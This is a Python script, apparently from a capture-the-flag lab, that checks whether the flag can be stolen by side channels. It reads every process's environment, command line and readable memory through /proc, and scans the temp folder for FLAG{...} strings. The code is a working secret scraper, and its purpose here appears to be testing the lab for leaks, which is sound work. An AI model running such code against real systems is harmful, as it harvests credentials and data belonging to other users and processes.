"""A thief instead of an exploit: it looks for any FLAG{...} it can read from the side, never through the server.

Every process's environment and command line, every file under the temp folder, and the memory of every
process it may read (/proc/<pid>/mem through /proc/<pid>/maps): what a student could try instead of the hole.
"""

import os
import re
import tempfile

FLAG = re.compile(rb"FLAG\{[0-9a-f]{24}\}")
found = {}  # flag -> where it was read


def note(data, where):
    for flag in FLAG.findall(data):
        found.setdefault(flag, where)


def read(path, limit=1 << 22):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return b""


for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    for part in ("environ", "cmdline"):
        note(read(f"/proc/{pid}/{part}"), f"/proc/{pid}/{part}")
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                if "r" not in perms:
                    continue
                start, end = (int(value, 16) for value in span.split("-"))
                if end - start > 1 << 28:
                    continue
                try:
                    mem.seek(start)
                    note(mem.read(end - start), f"/proc/{pid}/mem ({read(f'/proc/{pid}/cmdline')[:80]!r})")
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        pass
print("temp folder:", tempfile.gettempdir())
for folder, _, files in os.walk(tempfile.gettempdir()):
    for name in files:
        note(read(os.path.join(folder, name)), os.path.join(folder, name))
for flag, where in sorted(found.items()):
    print(flag.decode(), "in", where)
